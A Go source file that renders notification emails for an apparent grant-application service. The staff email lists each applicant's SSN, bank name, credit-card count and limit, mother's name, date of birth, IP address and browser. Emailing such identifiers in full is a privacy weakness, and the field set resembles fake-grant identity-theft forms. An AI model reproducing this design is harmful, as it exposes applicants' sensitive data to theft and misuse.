package notify

import (
	"bytes"
	"embed"
	"fmt"
	"html/template"
	"strings"
	"time"

	"github.com/mssola/useragent"

	"grantapp/internal/application/models"
)

//go:embed templates/*.html
var templateFS embed.FS

var applicantTemplate = template.Must(template.ParseFS(templateFS, "templates/applicant_confirmation.html"))

// adminTemplate is rendered directly rather than from the template
// directory: it lists every submitted value, each escaped.
var adminTemplate = template.Must(template.New("admin").Parse(`<h1>New Grant Application Submitted</h1>
<p style="color: blue; font-size: 18px;"><strong>Reference:</strong> {{.Reference}}</p>
<p><strong>Application ID:</strong> {{.ID}}</p>
<br>
{{- range .Rows}}
<p><strong>{{.Label}}:</strong> {{.Value}}</p>
{{- end}}
{{- if .Origin}}
<br>
<p style="color: #6b7280;"><strong>Submitted from:</strong> {{.Origin}}</p>
{{- end}}
`))

const notAvailable = "N/A"

type row struct {
	Label string
	Value string
}

type adminView struct {
	Reference string
	ID        int64
	Rows      []row
	Origin    string
}

type applicantView struct {
	Name         string
	Reference    string
	SubmittedOn  string
	GrantType    string
	AmountRange  string
	Status       string
	TrackURL     string
	SupportEmail string
	AppName      string
	Year         int
}

// AdminSubject is the subject line of the staff notification.
func AdminSubject(reference string) string {
	return "New Grant Application Submitted - " + reference
}

// ApplicantSubject is the subject line of the applicant confirmation.
func ApplicantSubject(reference string) string {
	return "Grant Application Confirmation - " + reference
}

// RenderAdmin renders the staff notification body.
func RenderAdmin(app *models.Application, origin models.Origin) (string, error) {
	view := adminView{
		Reference: app.Reference,
		ID:        app.ID,
		Rows:      adminRows(app),
		Origin:    describeOrigin(origin),
	}
	var buf bytes.Buffer
	if err := adminTemplate.Execute(&buf, view); err != nil {
		return "", fmt.Errorf("render admin email: %w", err)
	}
	return buf.String(), nil
}

func adminRows(app *models.Application) []row {
	cards, limit := notAvailable, notAvailable
	if app.NoOfCards != nil {
		cards = fmt.Sprint(*app.NoOfCards)
	}
	if app.CardLimit.Valid {
		limit = app.CardLimit.Decimal.String()
	}
	rows := []row{
		{"First Name", app.FirstName},
		{"Middle Name", app.MiddleName},
		{"Last Name", app.LastName},
		{"Email", app.Email},
		{"Phone", app.PhoneNumber},
		{"Address", app.Address},
		{"Zip Code", app.ZipCode},
		{"City", app.City},
		{"State", app.State},
		{"Gender", app.Gender},
		{"Date of Birth", app.DOB.Format("2006-01-02")},
		{"Income", app.Income},
		{"SSN", app.SSN},
		{"Bank Name", app.BankName},
		{"Has Credit Cards ?", app.HasCards},
		{"Number of Cards", cards},
		{"Card Limit", limit},
	}
	for _, opt := range []row{
		{"Marital Status", app.MaritalStatus},
		{"Next of Kin", app.NextOfKin},
		{"Mother's Name", app.MotherName},
		{"Hearing Status", app.HearingStatus},
		{"Housing Type", app.HousingType},
		{"Phone Courier", app.PhoneCourier},
		{"Grant Type", app.GrantSelect},
	} {
		if opt.Value != "" {
			rows = append(rows, opt)
		}
	}
	rows = append(rows, row{"Amount Applied", app.AmountApplied})
	if app.GrantDescription != "" {
		rows = append(rows, row{"Grant Description", app.GrantDescription})
	}
	return rows
}

// describeOrigin renders "Chrome 120.0 on Windows 10, IP 203.0.113.7".
func describeOrigin(origin models.Origin) string {
	var parts []string
	if origin.UserAgent != "" {
		ua := useragent.New(origin.UserAgent)
		name, version := ua.Browser()
		client := strings.TrimSpace(name + " " + version)
		if platform := ua.OS(); platform != "" {
			client += " on " + platform
		}
		if ua.Mobile() {
			client += " (mobile)"
		}
		if ua.Bot() {
			client += " (bot)"
		}
		parts = append(parts, client)
	}
	if origin.ClientIP != "" {
		parts = append(parts, "IP "+origin.ClientIP)
	}
	return strings.Join(parts, ", ")
}

// RenderApplicant renders the confirmation body.
func RenderApplicant(app *models.Application, cfg Config) (string, error) {
	submitted := app.CreatedAt
	if submitted.IsZero() {
		submitted = time.Now()
	}
	view := applicantView{
		Name:         app.FullName(),
		Reference:    app.Reference,
		SubmittedOn:  submitted.Format("Jan 02, 2006"),
		GrantType:    app.GrantSelect,
		AmountRange:  app.AmountApplied,
		Status:       app.Status.Humanize(),
		TrackURL:     strings.TrimRight(cfg.FrontendURL, "/") + "/track-application",
		SupportEmail: cfg.SupportEmail(),
		AppName:      cfg.AppName,
		Year:         submitted.Year(),
	}
	var buf bytes.Buffer
	if err := applicantTemplate.Execute(&buf, view); err != nil {
		return "", fmt.Errorf("render applicant email: %w", err)
	}
	return buf.String(), nil
}
